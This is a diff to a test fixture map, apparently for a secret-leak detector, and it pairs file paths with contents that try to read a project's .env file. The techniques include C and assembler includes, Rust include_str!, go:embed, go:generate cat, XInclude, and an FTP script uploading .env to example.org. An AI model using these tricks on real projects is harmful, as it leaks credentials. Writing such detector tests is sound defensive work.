@@ -53,6 +53,10 @@ const FREE: Record<string, string> = {
   'work/src/leak.c': '#include <stdio.h>\n#include "../.env"\n',
   'work/src/leak.s': '\t.incbin "../.env"\n',
   'work/src/leak.rs': 'fn main() { print!("{}", include_str!("../.env")) }\n',
+  'work/scripts/leak.ftp': 'open example.org\nput .env\n',
+  'work/src/leak.xml':
+    '<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="../.env"/></a>\n',
+  'work/src/plain.xml': '<a b="c">Do not commit .env</a>\n',
   'work/tools/gen.go': 'package tools\n\n//go:generate cat ../.env\n',
   'work/_embed/main.go': 'package main\n\n//go:embed .env\nvar s string\n',
   'work/test/a.test.js': 'console.log(1)\n',
